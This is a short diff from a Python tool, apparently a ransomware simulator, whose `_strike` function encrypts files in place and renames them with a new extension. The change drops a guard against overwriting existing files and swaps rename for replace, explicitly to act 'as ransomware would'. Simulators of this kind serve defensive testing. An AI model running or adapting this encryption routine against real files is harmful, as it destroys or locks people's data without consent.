@@ -152,12 +152,11 @@ def _strike(base: Path, files: Sequence[str], key: bytes, *, tag_root: bool,
         # A name already at the filesystem's limit cannot grow: like real ransomware, leave it in place.
         too_long = len(os.fsencode(source.name + EXTENSION)) > NAME_MAX
         locked = source if too_long else source.with_name(source.name + EXTENSION)
-        if locked.exists() and not too_long:
-            raise UsageError(f"'{locked.name}' already exists next to '{name}'")
+        # An older encrypted copy under the new name is simply overwritten, as ransomware would.
         nonce = file_nonce(key, name)
         size = _apply_cipher(source, key, nonce)
         if not too_long:
-            os.rename(source, locked)
+            os.replace(source, locked)
         if stamp:
             os.utime(locked, ns=stamp)
         entries.append({**where, "file": name, "renamed_to": str(locked.relative_to(base)),
